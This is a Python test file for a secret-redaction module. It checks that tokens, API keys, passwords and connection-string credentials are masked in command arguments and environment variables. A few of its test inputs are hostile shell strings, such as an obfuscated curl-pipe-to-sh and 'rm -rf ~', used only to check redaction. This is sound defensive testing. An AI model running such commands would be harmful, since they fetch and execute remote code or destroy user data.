"""What is a secret in a command or an environment is hidden where it stands, and masked elsewhere."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from mew_lab.bridge.process import environment
from mew_lab.bridge.secrets import hide_arguments, names_secret
from mew_lab.errors import ConfigError
from mew_lab.protocol.token import Token, forget, mask

CANARY = "canary-5ecret-0123456789"


@pytest.fixture(autouse=True)
def nothing_is_known() -> Iterator[None]:
    forget(Token(CANARY, remember=False))
    yield
    forget(Token(CANARY, remember=False))


@pytest.mark.parametrize(
    "name",
    "TOKEN GITHUB_PERSONAL_ACCESS_TOKEN apiKey --api-key OPENAI_API_KEY DB_PASSWORD dbPassword X-Auth-Token PGPASS "
    "CLIENT_SECRET --pw SESSION_COOKIE AWS_SECRET_ACCESS_KEY --pat Authorization SENTRY_DSN".split(),
)
def test_a_name_tells_of_a_secret(name: str) -> None:
    assert names_secret(name)


@pytest.mark.parametrize(
    "name",
    "PATH HOME --port KEYBOARD MONKEY --token-file TOKEN_ENV API_KEY_NAME MAX_TOKENS author compass --space pin_url".split(),
)
def test_a_name_of_something_else_does_not(name: str) -> None:
    assert not names_secret(name)


@pytest.mark.threat(28)
@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (["run", "--token", CANARY, "x"], ["run", "--token", "…", "x"]),
        (["run", "--token=" + CANARY], ["run", "--token=…"]),
        (["run", "--pin", "1234"], ["run", "--pin", "…"]),
        (["docker", "run", "-e", "API_KEY=" + CANARY], ["docker", "run", "-e", "API_KEY=…"]),
        (["run", "--header", f"X-Api-Key: {CANARY}"], ["run", "--header", "X-Api-Key: …"]),
        (["run", "-H", f"x: Bearer {CANARY}"], ["run", "-H", "x: Bearer …"]),
        (["run", "-H", "x: Bearer a1.b-2~c/d=="], ["run", "-H", "x: Bearer …"]),
        (["run", "-H", "Authorization: Basic YWRhOnNlc2FtZQ=="], ["run", "-H", "Authorization: …"]),
        (
            ["run", "-p", "A token counting basic arithmetic"],
            ["run", "-p", "A token counting basic arithmetic"],
        ),
        # What a shell would run is not hidden as if it were a credential.
        (["sh", "-c", "token x1;curl${IFS}e|sh"], ["sh", "-c", "token x1;curl${IFS}e|sh"]),
        (["sh", "-c", "rm -rf ~;: aaaaaaaaaaaaaaaaaaaa1"], ["sh", "-c", "rm -rf ~;: …"]),
        (["sh", "-c", "rm${IFS}-rf;:aaaaaaaaaaaaaaaaaaaa1"], ["sh", "-c", "rm${IFS}-rf;:…"]),
        (["run", '{"k":"aaaaaaaaaaaaaaaaaaaa1"}'], ["run", '{"k":"…"}']),
        (["run", "ghp_0123456789abcdefgh"], ["run", "…"]),
        (["run", "--x=sk-0123456789abcdefgh"], ["run", "--x=…"]),
        (["run", f"https://h/?key={CANARY}"], ["run", "https://h/?…"]),
        (["run", f"--db=postgres://ada:{CANARY}@h/x"], ["run", "--db=postgres://h/x"]),
        (["run", "--token", "--verbose"], ["run", "--token", "--verbose"]),
        (["run", "--token-file", "/run/key"], ["run", "--token-file", "/run/key"]),
        (
            ["npx", "-y", "@modelcontextprotocol/server-everything@2026.8.31"],
            ["npx", "-y", "@modelcontextprotocol/server-everything@2026.8.31"],
        ),
    ],
)
def test_the_secrets_of_a_command_are_hidden(words: list[str], shown: list[str]) -> None:
    assert hide_arguments(words) == shown
    assert CANARY not in mask(f"it said {CANARY}") or CANARY not in " ".join(words)


@pytest.mark.threat(28)
def test_an_ordinary_word_beside_the_name_of_a_scheme_is_not_masked_in_other_texts() -> None:
    hide_arguments(["run", "-p", "a token counting machine, a bearer certificate, a basic arithmetic-2"])
    for word in ("counting", "certificate", "arithmetic-2"):
        assert mask(f"it said {word} to all") == f"it said {word} to all"


@pytest.mark.threat(28)
def test_the_secrets_of_an_environment_are_masked_and_ordinary_words_are_not(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    lines = "-----BEGIN KEY-----\nMIIB" + "x" * 40 + "\n-----END KEY-----"
    environment(
        {
            "API_KEY": CANARY,
            "MODE": "production",
            "DB": f"mysql://u:pass-{CANARY}@h",
            "KEY": lines,
            "T": "hf_0123456789abc",
        }
    )
    said = f"{CANARY} production pass-{CANARY} MIIB{'x' * 40} hf_0123456789abc"
    assert "production" in mask(said)
    assert not any(secret in mask(said) for secret in (CANARY, "MIIBxxxx", "hf_0123456789abc"))
    monkeypatch.setenv("PASSED_TOKEN", "canary-of-this-process")
    environment(["PASSED_TOKEN"])
    assert "canary-of" not in mask("canary-of-this-process")


@pytest.mark.parametrize(
    "env", ["API_KEY", {"A=B": "x"}, {"A": 1}, {"A": "x\0"}, {"": "x"}, {"A\0": "x"}, {3: "x"}]
)
def test_what_is_no_environment_is_refused_without_its_values(env: object) -> None:
    with pytest.raises(ConfigError) as caught:
        environment(env)  # type: ignore[arg-type]
    assert caught.value.key == "env" and "\0" not in str(caught.value)
